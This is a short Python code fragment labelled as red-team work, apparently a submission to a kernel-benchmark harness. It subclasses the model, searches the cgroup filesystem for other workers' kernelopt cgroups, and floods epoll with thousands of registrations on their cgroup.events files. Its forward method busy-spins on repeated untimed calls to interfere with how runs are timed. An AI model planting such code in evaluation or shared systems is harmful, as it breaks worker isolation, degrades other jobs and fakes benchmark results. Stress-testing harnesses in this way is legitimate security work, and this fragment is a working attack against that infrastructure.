
# ---- red team: the other worker's cgroup.events, registered many times over in epoll ----
import glob as _glob, os as _os, resource as _resource, select as _select, sys as _sys, time as _time

_EPOLLS, _M, _SPIN = 1000, 100, 0.012


def _rt_setup():
    info = []
    try:
        soft, hard = _resource.getrlimit(_resource.RLIMIT_NOFILE)
        _resource.setrlimit(_resource.RLIMIT_NOFILE, (hard, hard))
        me, own, others = str(_os.getpid()), None, []
        for d in sorted(_glob.glob("/sys/fs/cgroup/unified/kernelopt-*")):
            try:
                procs = open(d + "/cgroup.procs").read().split()
            except OSError:
                continue
            if me in procs:
                own = d
            else:
                others.append(d)
        prefix = own.rsplit("-", 1)[0] + "-"
        targets = [d for d in others if d.startswith(prefix)]
        files, eps = [], [_select.epoll() for _ in range(_EPOLLS)]
        for d in targets:
            f = open(d + "/cgroup.events", "rb")
            files.append(f)
            for i in range(_M):
                fd = hard - 50 - i
                _os.dup2(f.fileno(), fd)
                for ep in eps:
                    ep.register(fd, _select.EPOLLPRI)
                _os.close(fd)
        info.append(f"own {own} targets {targets}")
        return (files, eps), info
    except Exception as e:  # noqa: BLE001
        info.append(f"error {e!r}")
        return None, info


class ModelNew(Model):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self._rt_keep, info = _rt_setup()
        print("redteam:", info, file=_sys.stderr)
        self._rt_last = None

    def forward(self, *args):
        x = args[0]
        flat = x.reshape(-1)
        mark = (flat[::997].sum().item(), flat[1].item(), flat[-1].item())
        if mark == self._rt_last:  # the turn's untimed first call: outlast any deferred notify
            end = _time.perf_counter() + _SPIN
            while _time.perf_counter() < end:
                pass
        self._rt_last = mark
        return super().forward(*args)
